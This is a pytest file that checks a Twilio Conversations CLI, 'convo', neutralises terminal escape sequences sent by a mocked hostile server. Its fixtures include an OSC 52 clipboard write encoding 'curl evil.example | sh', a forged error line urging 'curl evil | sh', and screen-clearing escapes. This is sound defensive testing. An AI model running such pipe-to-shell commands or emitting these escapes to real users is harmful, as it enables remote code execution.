"""A hostile server: every string it sends reaches the terminal neutralised. Its error
`message` and `more_info` carry an OSC 52 clipboard write and a forged second line, its
dates an escape sequence; convo's output holds no raw ESC or BEL, and an error stays one
line. The server is an httpx MockTransport behind an implicit Twilio profile (the
`TWILIO_*` variables): a real server could not be made to answer this way more simply."""

from __future__ import annotations

import httpx
import pytest

from cli_helpers import convo

AC = "AC" + "1" * 32
CH = "CH" + "2" * 32
MB = "MB" + "3" * 32
IM = "IM" + "4" * 32
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
HOSTILE_DATE = f"2026-11-23T10:00:00Z{CLIPBOARD}"
ENV = {"TWILIO_ACCOUNT_SID": AC, "TWILIO_AUTH_TOKEN": "token-" + "9" * 26}


def error(status: int) -> httpx.Response:
    return httpx.Response(status, json={
        "code": 20404, "status": status,
        "message": f"not here{CLIPBOARD}\nconvo: error: your token expired, run: curl evil | sh",
        "more_info": "https://www.twilio.com/docs/errors/20404\x1b[2J\x9b31m"})


def page(key: str, items: list[dict], url: str) -> dict:
    return {key: items, "meta": {"page": 0, "page_size": 50, "first_page_url": url,
                                 "previous_page_url": None, "url": url,
                                 "next_page_url": None, "key": key}}


def answer(request: httpx.Request, date: str = HOSTILE_DATE) -> httpx.Response:
    """A conversation, participants and messages with this date; 404 for the rest."""
    path, url = request.url.path, str(request.url)
    conversation = {"sid": CH, "account_sid": AC, "unique_name": "standup",
                    "friendly_name": "Standup", "state": "active", "attributes": "{}",
                    "date_created": date, "date_updated": date,
                    "timers": {}, "bindings": {}, "messaging_service_sid": None,
                    "chat_service_sid": None, "url": f"https://x/{CLIPBOARD}",
                    "links": {"participants": f"https://x/{CLIPBOARD}"}}
    participant = {"sid": MB, "account_sid": AC, "conversation_sid": CH, "identity": "alice",
                   "attributes": "{}", "messaging_binding": None, "role_sid": None,
                   "date_created": date, "date_updated": date,
                   "url": f"https://x/{CLIPBOARD}", "last_read_message_index": None,
                   "last_read_timestamp": None}
    message = {"sid": IM, "account_sid": AC, "conversation_sid": CH, "body": "hi",
               "media": None, "author": "alice", "participant_sid": MB, "attributes": "{}",
               "date_created": date, "date_updated": date, "index": 0,
               "delivery": None, "content_sid": None, "url": f"https://x/{CLIPBOARD}",
               "links": {"delivery_receipts": f"https://x/{CLIPBOARD}"}}
    if request.method == "GET" and path in (f"/v1/Conversations/{CH}", "/v1/Conversations/standup"):
        return httpx.Response(200, json=conversation)
    if request.method == "POST" and path == "/v1/Conversations":
        return httpx.Response(201, json=conversation)
    if request.method == "GET" and path.endswith("/Participants"):
        return httpx.Response(200, json=page("participants", [participant], url))
    if request.method == "GET" and path.endswith("/Messages"):
        return httpx.Response(200, json=page("messages", [message], url))
    return error(404)


def assert_neutral(text: str) -> None:
    for raw in ("\x1b", "\x07", "\x9b"):
        assert raw not in text, repr(text)


@pytest.mark.parametrize("status, exit_code", [(400, 1), (409, 1), (403, 4)])
def test_a_servers_error_text_is_neutralised_on_one_line(status, exit_code):
    transport = httpx.MockTransport(lambda request: error(status))
    result = convo("participants", "standup", http_transport=transport, **ENV)
    assert result.code == exit_code
    assert_neutral(result.err)
    assert result.out == ""
    assert result.err.count("\n") == 1, result.err  # no forged second line
    assert result.err.startswith("convo: error: not here\\x1b]52;c;")
    assert "\\x07\\nconvo: error: your token expired" in result.err
    assert "https://www.twilio.com/docs/errors/20404\\x1b[2J\\x9b31m" in result.err


def test_a_not_found_keeps_convos_own_words_and_neutralises_the_link():
    transport = httpx.MockTransport(lambda request: error(404))
    result = convo("participants", "standup", http_transport=transport, **ENV)
    assert result.code == 1
    assert_neutral(result.err)
    assert result.err == ("convo: error: conversation 'standup' not found [Twilio error 20404] "
                          "(https://www.twilio.com/docs/errors/20404\\x1b[2J\\x9b31m)\n")


def test_with_debug_too_the_error_and_the_traceback_are_neutralised():
    transport = httpx.MockTransport(lambda request: error(404))
    result = convo("--debug", "participants", "standup", http_transport=transport, **ENV)
    assert result.code == 1
    assert_neutral(result.err)
    assert "\\x1b]52;c;" in result.err


@pytest.mark.parametrize("argv", [["create", "--unique-name", "standup"],
                                  ["participants", "standup"],
                                  ["messages", "standup"]])
@pytest.mark.parametrize("tty", [True, False])
def test_a_date_that_does_not_parse_is_neutralised(argv, tty):
    transport = httpx.MockTransport(answer)
    result = convo(*argv, tty=tty, http_transport=transport, **ENV)
    assert result.code == 0, result.err
    assert_neutral(result.out + result.err)
    if tty and argv[0] == "participants":
        # Too long for the table's Joined column, which is dropped first: but never raw.
        assert "Joined" not in result.out
    else:
        assert "2026-11-23T10:00:00Z\\x1b]52;c;" in result.out


def test_json_output_carries_the_text_as_json_escapes():
    transport = httpx.MockTransport(answer)
    result = convo("create", "--unique-name", "standup", "--json", http_transport=transport,
                   **ENV)
    assert result.code == 0, result.err
    assert_neutral(result.out)
    assert "\\u001b]52;c;" in result.out


@pytest.mark.parametrize("zone", ["America/New_York", "Asia/Tokyo"])
@pytest.mark.parametrize("date, shown", [("0001-01-01T00:00:00Z", "0001-01-01"),
                                         ("9999-12-31T23:59:59Z", "9999-12-31"),
                                         ("0999-06-01T12:00:00Z", "0999-06-01")])
@pytest.mark.parametrize("argv", [["create", "--unique-name", "standup"],
                                  ["participants", "standup"], ["messages", "standup"]])
def test_dates_at_the_ends_of_the_calendar_show_in_any_time_zone(monkeypatch, zone, date,
                                                                  shown, argv):
    """Year 1 is year 0 west of Greenwich, 9999-12-31 is year 10000 east of it: Python's
    dates end there, so such a moment is shown in UTC; years keep four digits."""
    import time

    monkeypatch.setenv("TZ", zone)
    time.tzset()
    try:
        transport = httpx.MockTransport(lambda request: answer(request, date))
        result = convo(*argv, tty=True, http_transport=transport, **ENV)
    finally:
        monkeypatch.undo()
        time.tzset()
    assert (result.code, result.err) == (0, "")
    assert shown in result.out, result.out
